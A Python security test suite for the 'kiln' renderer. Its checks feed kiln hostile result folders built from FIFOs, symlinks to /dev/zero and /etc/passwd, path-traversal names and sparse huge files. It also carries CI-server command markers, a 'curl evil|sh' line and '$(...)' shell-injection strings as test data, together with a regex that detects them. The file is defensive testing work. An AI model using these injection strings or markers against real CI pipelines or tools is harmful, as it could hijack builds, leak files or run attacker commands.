#!/usr/bin/python3
"""Checks that kiln withstands folders of results and figures from strangers.

    results.py KILN [NAME...]

If this fails, somebody who made a folder of results can hang kiln, read or replace files outside of
the folder, let a CI server act on a text, or let a person run a command of theirs. Each function
whose name begins with try_ makes one attack: it starts from the true results of a small test, of
which the golden picture is missing, and changes them.
"""
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import time

KILN = os.path.realpath(sys.argv[1])
PATIENCE_S = 20 * float(os.environ.get("KILN_TEST_TIMEOUT_SCALE", "1"))
SCENE = """kiln: 1
seed: 7
output: {size: [32, 24], fps: 30, frames: 4}
camera: {position: [0, 1, 4], target: [0, 1, 0]}
systems:
  sparks:
    emit: {rate: 200, life: 1 s, from: {sphere: {origin: [0, 1, 0], radius: 0.5}}, speed: [0.5, 1]}
    look: {atlas: "builtin:spark", blend: add, size: 0.2}
"""
TEST = "kiln_test: 1\nscene: spark.yaml\nframes: [3]\n"
# Each text is a marker by which a CI server takes a command; lib/base/marker.c has their sources.
MARKERS = ["##vso[task.setvariable variable=A]b", "##[set-env name=A]b", "##teamcity[setParameter name='a' value='b']",
           "[[ATTACHMENT|/etc/passwd]]"]
LINES = ["::set-output name=a::b", "::add-mask::a", "openjd_env: PATH=/tmp/evil"]
# What a server would act on, by the rules of its own parser.
ACTS = re.compile(r"##vso\[|##\[|##teamcity\[|\[\[ATTACHMENT\||^\s*::|^openjd_\w+: ", re.I | re.M)


def kiln(*words, cwd, code=None, stdin=None):
    """Runs kiln. Returns its exit code and what it printed; a program that hangs is a failure."""
    try:
        done = subprocess.run([KILN, *words], cwd=cwd, stdin=stdin or subprocess.DEVNULL, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, timeout=PATIENCE_S)
    except subprocess.TimeoutExpired:
        raise AssertionError(f"kiln {' '.join(words)} hangs") from None
    text = done.stdout.decode(errors="replace")
    assert done.returncode >= 0, f"kiln {' '.join(words)} crashed: {done.returncode}"
    assert code is None or done.returncode == code, f"kiln {' '.join(words)}: exit code {done.returncode}: {text}"
    return done.returncode, text


class Run:
    """A folder with a test and its results."""

    def __init__(self, place):
        self.root = place / "work"
        self.root.mkdir()
        self.secret = place / "secret.png"
        self.results = self.root / "out/test"
        self.folder = self.results / "spark"
        (self.root / "spark.yaml").write_text(SCENE)
        (self.root / "spark.test.yaml").write_text(TEST)
        kiln("test", "spark", cwd=self.root, code=7)
        shutil.copy(self.folder / "frame_0003.png", self.secret)

    def result(self):
        return json.loads((self.folder / "result.json").read_text())

    def change(self, **members):
        """Changes members of the result; those of its frame begin with frame_."""
        result = self.result()
        for key, value in members.items():
            if key.startswith("frame_"):
                result["frames"][0][key[6:]] = value
            else:
                result[key] = value
        (self.folder / "result.json").write_text(json.dumps(result, indent=1, ensure_ascii=False))

    def put(self, name, make):
        """Puts another kind of file in place of one of the result."""
        path = self.folder / name
        path.unlink(missing_ok=True)
        make(path)


def readers(run, picture="frame_0003.png"):
    """Every way in which kiln reads a folder of results. None may hang or show another file."""
    for words in (("test", "report", "out/test", "--report", "r.html"), ("test", "report", "out/test", "--link"),
                  ("test", "report", "out/test", "--junit", "-"), ("test", "report", "out/test", "--json=-", "--force"),
                  ("test", "approve", "spark", "--dry-run"), ("test", "approve", "spark")):
        start = time.monotonic()
        kiln(*words, cwd=run.root)
        assert time.monotonic() - start < PATIENCE_S
    page = (run.root / "r.html").read_text() + (run.results / "report.html").read_text()
    assert not (run.root / "golden/spark" / picture).exists(), "it was accepted"
    return page


# ---- Pictures and results that are no plain files ---------------------------------------------------


def try_fifo_as_picture(run):
    run.put("frame_0003.png", os.mkfifo)
    readers(run)


def try_fifo_as_reference(run):
    run.put("frame_0003.png", os.mkfifo)
    run.put("reference.png", os.mkfifo)
    run.change(frame_reference="reference.png", frame_error_map="reference.png")
    readers(run)


def try_endless_device_as_picture(run):
    run.put("frame_0003.png", lambda path: path.symlink_to("/dev/zero"))
    run.put("reference.png", lambda path: path.symlink_to("/dev/zero"))
    run.change(frame_reference="reference.png")
    page = readers(run)
    assert '"url":"out' not in page and '"url":"spark' not in page, "the page links to the device"


def try_link_out_as_picture(run):
    run.put("frame_0003.png", lambda path: path.symlink_to(run.secret))
    page = readers(run)
    assert "iVBORw0KGgo" not in page, "the page has a file from outside"
    assert '"url":"spark' not in page, "the page links to a file outside"


def try_linked_folder(run):
    outside = run.root.parent / "outside"
    run.folder.rename(outside)
    run.folder.symlink_to(outside)
    code, text = kiln("test", "report", "out/test", cwd=run.root)
    assert code == 3 and "leads by one out of the folder" in text, text


def try_fifo_as_result(run):
    run.put("result.json", os.mkfifo)
    readers_of_text(run, "not a file but a device or pipe")


def try_endless_result(run):
    run.put("result.json", lambda path: path.symlink_to("/dev/zero"))
    readers_of_text(run, "is a link")


def try_fifo_as_run(run):
    (run.results / "run.json").unlink()
    os.mkfifo(run.results / "run.json")
    code, text = kiln("test", "report", "out/test", cwd=run.root)
    assert code == 3 and "not a regular file" in text, text


def readers_of_text(run, says):
    code, text = kiln("test", "report", "out/test", cwd=run.root)
    assert code == 3 and says in text, text
    code, text = kiln("test", "approve", "spark", cwd=run.root)
    assert code != 0 and says in text, text


def try_huge_sparse_picture(run):
    with open(run.folder / "frame_0003.png", "r+b") as file:
        file.truncate(1 << 40)
    page = readers(run)
    assert "allowed are at most" in page


def try_names_that_lead_out(run):
    for name in ("../../../secret.png", "/etc/passwd", "..", ".", "a/b.png", "-n", ".hidden", "a b.png", "a]].png"):
        for key in ("frame_picture", "frame_reference", "frame_error_map", "log"):
            saved = (run.folder / "result.json").read_text()
            run.change(**{key: name})
            code, text = kiln("test", "report", "out/test", cwd=run.root)
            assert code == 3 and "allowed is the name of a file in the folder of the result" in text, (name, text)
            (run.folder / "result.json").write_text(saved)
    for name in ("../x", "/etc", "a//b", "spark/../spark", "-f", ".spark", "a b", "a\nb", "spark@../x", "spark@", ""):
        run_json = json.loads((run.results / "run.json").read_text())
        run_json["tests"][0][0]["name"] = name
        (run.results / "run.json").write_text(json.dumps(run_json))
        code, text = kiln("test", "report", "out/test", cwd=run.root)
        assert code == 3 and "is not the name of a test" in text, (name, text)


def try_result_folder_that_links_out(run):
    """A run removes the files of an earlier one: never by a link in another folder."""
    outside = run.root.parent / "outside"
    run.folder.rename(outside)
    run.folder.symlink_to(outside)
    with open(run.results / ".kiln-results", "a", encoding="utf-8") as file:
        file.write("# writing spark\n")
    code, text = kiln("test", "spark", cwd=run.root)
    assert (outside / "frame_0003.png").exists(), "it removed files elsewhere"
    assert code == 2 and "the folder of a result is a link" in text, text


def try_report_that_is_a_link(run):
    target = run.root.parent / "page.html"
    target.write_text("")
    (run.results / "report.html").unlink()
    (run.results / "report.html").symlink_to(target)
    kiln("test", "report", "out/test", cwd=run.root)
    assert target.read_text() == "", "a file elsewhere was replaced"


# ---- What approve writes -------------------------------------------------------------------------------


def try_goldens_elsewhere(run):
    """The result says where its goldens are; approve must not believe it."""
    elsewhere = run.root.parent / "elsewhere/spark"
    for golden in (str(elsewhere), "../elsewhere/spark", "golden/../../elsewhere/spark", "out/test/spark"):
        run.change(golden=golden, frame_golden=golden + "/frame_0003.png")
        code, text = kiln("test", "approve", "spark", cwd=run.root)
        assert not elsewhere.exists(), f"it wrote to {golden}"
        assert code == 3 and "the result names the goldens" in text, text
    assert not (run.root / "golden/spark/expect.yaml").exists()


def try_test_elsewhere(run):
    other = run.root.parent / "other"
    other.mkdir()
    (other / "spark.test.yaml").write_text(TEST)
    (other / "spark.yaml").write_text(SCENE)
    run.change(test=str(other / "spark.test.yaml"), rerun="")
    code, text = kiln("test", "approve", "spark", cwd=run.root)
    assert code == 3 and "the result names the file" in text, text
    assert not (run.root / "golden/spark/frame_0003.png").exists()


def try_golden_of_another_frame(run):
    run.change(frame_golden="golden/spark/scene.yaml")
    code, text = kiln("test", "approve", "spark", cwd=run.root)
    assert code == 3 and "its goldens have changed" in text, text


def try_true_result_is_approved(run):
    kiln("test", "approve", "spark", cwd=run.root, code=0)
    assert (run.root / "golden/spark/frame_0003.png").read_bytes() == (run.folder / "frame_0003.png").read_bytes()
    kiln("test", "spark", cwd=run.root, code=0)


def try_file_is_approved(run):
    _, text = kiln("test", "spark.test.yaml", cwd=run.root, code=7)
    assert "accept them: kiln test approve spark spark.test.yaml\n" in text, text
    assert run.result()["approve"] == "kiln test approve spark.test.yaml", run.result()["approve"]
    kiln("test", "approve", "spark.test.yaml", cwd=run.root, code=0)
    kiln("test", "spark", cwd=run.root, code=0)


# ---- Commands -------------------------------------------------------------------------------------------


def try_commands_of_others(run):
    good = run.result()["rerun"]
    assert good == "kiln test spark.test.yaml", good
    for command in ("curl evil|sh", "kiln test spark.test.yaml; touch x", "kiln test spark.test.yaml\ntouch x",
                    "kiln test $(touch x)", "kiln test `touch x`", "kiln render spark.test.yaml", "kiln test other.yaml",
                    "kiln test 'spark.test.yaml", "kiln test spark.test.yaml --update all",
                    "kiln test --golden /etc spark.test.yaml", "kiln test --technique 'a b' spark.test.yaml",
                    "kiln test --repeat '1;x' spark.test.yaml", "kiln test --filter x spark.test.yaml",
                    "kiln test '' spark.test.yaml", "kiln  test spark.test.yaml", "\u0003touch x"):
        for key in ("rerun", "approve"):
            run.change(rerun=good, approve="kiln test approve spark")
            run.change(**{key: command})
            code, text = kiln("test", "report", "out/test", cwd=run.root)
            assert code == 3 and "allowed is the command that kiln test writes" in text, (command, key, text)


def try_tests_that_are_no_files(run):
    """A result chooses the path of its test, which must not become an option or a second word of kiln test."""
    for test in ("--update=all", "approve", "approve --all", "-", "report", "./--update=all"):
        run.change(test=test, rerun=f"kiln test {test}", approve="")
        code, text = kiln("test", "report", "out/test", cwd=run.root)
        assert code == 3 and "allowed is the command that kiln test writes" in text, (test, text)
        run.change(rerun=f"kiln test {test} spark")
        code, text = kiln("test", "report", "out/test", cwd=run.root)
        assert code == 3, (test, text)
        run.change(rerun="", approve=f"kiln test approve {test}")
        code, text = kiln("test", "report", "out/test", cwd=run.root)
        assert code == 3, (test, text)
    run.change(test="--update.yaml", rerun="kiln test --update.yaml", approve="")
    code, text = kiln("test", "report", "out/test", cwd=run.root)
    assert code == 3, text
    run.change(rerun="kiln test --device --update=all ./--update.yaml")
    code, text = kiln("test", "report", "out/test", cwd=run.root)
    assert code == 3, text
    run.change(rerun="kiln test ./--update.yaml")
    assert offered(run)[0] == "kiln test ./--update.yaml"


def offered(run):
    """Returns the commands that the report's page offers for copying."""
    kiln("test", "report", "out/test", "--json=r.json", "--force", cwd=run.root)
    test = json.loads((run.root / "r.json").read_text())["tests"][0]
    return test["rerun"], test["approve"]


def try_commands_are_built_anew(run):
    run.change(rerun="kiln test --against /tmp/evil --results /home --device 'a'\\''$(x)' spark.test.yaml",
               approve="kiln test approve --results ../../elsewhere spark")
    rerun, approve = offered(run)
    assert rerun == "kiln test --device 'a'\\''$(x)' spark.test.yaml", rerun
    assert approve == "kiln test approve spark", approve
    words = subprocess.run(["bash", "-c", f"printf '%s\\n' {rerun}"], capture_output=True, check=True, text=True).stdout
    assert words.splitlines() == ["kiln", "test", "--device", "a'$(x)", "spark.test.yaml"], words


# ---- Markers of CI servers ---------------------------------------------------------------------------------


def try_markers(run):
    """Markers in every text of a result; no output may have one, as its reader sees it."""
    import xml.etree.ElementTree
    for text in [m for m in MARKERS] + [f"{blank}{line}" for line in LINES for blank in ("", "  ", "a\n", "a\n \t", "a\r")]:
        hostile = text
        run.change(**{key: hostile for key in ("about", "message", "device", "driver", "platform", "techniques", "version",
                                               "scene", "frame_message")},
                   notes=[hostile, hostile + " is stale"], changes=[{"key": hostile, "before": hostile, "after": hostile}])
        outputs = {name: kiln("test", "report", "out/test", "--no-report", "-q", *words, cwd=run.root)[1]
                   for name, words in {"junit": ["--junit", "-"], "github": ["--github"], "tap": ["--tap", "-"],
                                       "json": ["--json"], "events": ["--events"]}.items()}
        outputs["html"] = kiln("test", "report", "out/test", "-q", "--report", "-", cwd=run.root)[1]
        outputs["approve"] = kiln("test", "approve", "spark", cwd=run.root)[1]
        run.change(status="error", code=3)
        outputs["error"] = kiln("test", "approve", "spark", cwd=run.root)[1]
        run.change(status="skip", code=0)
        outputs["skipped"] = kiln("test", "report", "out/test", "--no-report", "-q", "--tap", "-", cwd=run.root)[1]
        run.change(status="new", code=7)
        for name, output in outputs.items():
            own = re.sub(r"^::(error|warning|notice) .*$", "", output, flags=re.M) if name == "github" else output
            own = re.sub(r"\[\[ATTACHMENT\|out/test/spark/[a-z0-9_.]+\]\]", "", own)
            found = ACTS.search(own)
            assert not found, f"{name}: {own[max(0, found.start() - 40):found.end() + 40]!r}"
            assert "\x1b" not in output
        # GitHub's runner reads what stands behind the command once more as text of the log.
        for line in re.findall("^::.*$", outputs["github"], re.M):
            body = line.split("::", 2)[2].replace("%0D", "\r").replace("%0A", "\n")
            assert not ACTS.search(body), f"github: {body!r}"
        tree = xml.etree.ElementTree.fromstring(outputs["junit"].partition("\n</testsuites>")[0] + "</testsuites>")
        texts = [t for e in tree.iter() for t in [e.text or "", *e.attrib.values()]]
        for part in texts:
            part = re.sub(r"^\[\[ATTACHMENT\|out/test/spark/[a-z0-9_.]+\]\]$", "", part, flags=re.M)
            assert not ACTS.search(part), f"junit: {part!r}"
        assert any(text[:30].strip().strip("#:[")[:3] in t for t in texts), "the text is gone"
        # What reads JSON gets the text as it was.
        assert json.JSONDecoder().raw_decode(outputs["json"])[0]["tests"][0]["about"] == hostile


def try_attachments_that_are_links(run):
    run.put("frame_0003.png", lambda path: path.symlink_to("/etc/passwd"))
    run.put("log.txt", lambda path: path.symlink_to("/etc/passwd"))
    run.change(log="log.txt")
    kiln("test", "report", "out/test", "--junit", "j.xml", "--force", cwd=run.root)
    assert "[[ATTACHMENT|" not in (run.root / "j.xml").read_text(), "a server would upload /etc/passwd"


def try_markers_in_errors(run):
    """Names and texts of scenes reach the log by error messages, also where they begin a line."""
    for text in MARKERS + LINES:
        name = text.replace("/", "-")[:100] + ".yaml"
        (run.root / name).write_text(f"kiln: 1\n{json.dumps(text)}: 1\nsystems: {{a: {{look: {{atlas: {json.dumps(text)}}}}}}}\n")
        for words in (["check", name], ["check", "spark.yaml", "--set", f"{text}=1"], ["render", name, "-o", "x.png"],
                      ["test", "list", "--files"], ["check", "--hash", name, "spark.yaml"], ["compare", name, name], [text]):
            _, output = kiln(*words, cwd=run.root)
            found = ACTS.search(output)
            assert not found, f"{words}: {output[max(0, found.start() - 40):found.end() + 40]!r}"
        (run.root / name).unlink()


def try_markers_in_a_scene(run):
    """A scene that is checked is printed: its texts are quoted so that they are no markers."""
    for text in MARKERS + LINES:
        (run.root / "m.yaml").write_text(SCENE + f"# {text}\n")
        (run.root / text.replace("/", "-")).mkdir(exist_ok=True)
        shutil.copy(run.secret, run.root / text.replace("/", "-") / "a.png")
        code, output = kiln("check", "m.yaml", "--set",
                            "systems.sparks.look.atlas=" + json.dumps(text.replace("/", "-") + "/a.png"),
                            "--set", "systems.sparks.look.cells=[1, 1]", cwd=run.root)
        found = ACTS.search(output)
        assert code == 0 and not found, f"{code}: {output[-300:]!r}"


# ---- Figures ------------------------------------------------------------------------------------------------


def figure(run):
    shutil.copy(run.secret, run.root / "a.png")
    shutil.copy(run.secret, run.root / "b.png")
    kiln("figure", "triptych", "a.png", "b.png", "-o", "f.png", "--force", cwd=run.root, code=0)


def check_figure(run, says, codes=(1, 3)):
    code, text = kiln("figure", "--check", ".", cwd=run.root)
    assert code in codes and says in text, (code, text)


def try_figure_that_is_a_fifo(run):
    figure(run)
    (run.root / "f.png").unlink()
    os.mkfifo(run.root / "f.png")
    check_figure(run, "device or pipe")


def try_figure_that_never_ends(run):
    figure(run)
    (run.root / "f.png").unlink()
    (run.root / "f.png").symlink_to("/dev/zero")
    check_figure(run, "is a link")


def try_huge_sparse_figure(run):
    figure(run)
    with open(run.root / "f.png", "r+b") as file:
        file.truncate(1 << 40)
    check_figure(run, "allowed are at most")


def try_panel_that_is_a_fifo(run):
    for make in (os.mkfifo, lambda path: path.symlink_to("/dev/zero")):
        for name in ("a.png", "a.mp4", "a.gif", "a.tiff"):
            figure(run)
            sidecar = run.root / "f.png.figure.json"
            sidecar.write_text(sidecar.read_text().replace('"a.png"', json.dumps(name)))
            (run.root / "a.png").unlink()
            make(run.root / name)
            code, _ = kiln("figure", "--check", "f.png", cwd=run.root)
            assert code in (1, 3, 6), code
            (run.root / name).unlink()


def try_sidecar_that_is_a_fifo(run):
    os.mkfifo(run.root / "g.png.figure.json")
    code, _ = kiln("figure", "--check", "g.png", cwd=run.root)
    assert code == 3, code


def try_sidecar_that_writes_elsewhere(run):
    """--update writes the figure beside its sidecar alone, whatever its command says."""
    figure(run)
    sidecar = run.root / "f.png.figure.json"
    good = sidecar.read_text()
    target = run.root.parent / "target.png"
    for output in (str(target), "../target.png"):
        sidecar.write_text(good.replace('"f.png"', json.dumps(output)))
        kiln("figure", "--update", "f.png", cwd=run.root)
        assert not target.exists(), f"it wrote {output}"


def try_depfile_that_is_a_fifo(run):
    figure(run)
    sidecar = run.root / "f.png.figure.json"
    sidecar.write_text(sidecar.read_text().replace('"f.png"', '"f.png", "--depfile", "d"', 1))
    for make in (os.mkfifo, lambda path: path.symlink_to("/dev/zero")):
        (run.root / "f.png").write_bytes(b"stale")
        make(run.root / "d")
        kiln("figure", "--update", "f.png", cwd=run.root)
        (run.root / "d").unlink()


def main():
    attacks = {name[4:]: attack for name, attack in globals().items() if name.startswith("try_")}
    failures = 0
    for name, attack in attacks.items():
        if len(sys.argv) > 2 and name not in sys.argv[2:]:
            continue
        with tempfile.TemporaryDirectory(prefix="kiln-results-") as place:
            try:
                attack(Run(pathlib.Path(os.path.realpath(place))))
                print(f"{name}: withstood", flush=True)
            except (AssertionError, ValueError, OSError) as error:
                failures += 1
                print(f"{name}: {str(error)[:600]}", flush=True)
    sys.exit(failures > 0)


main()
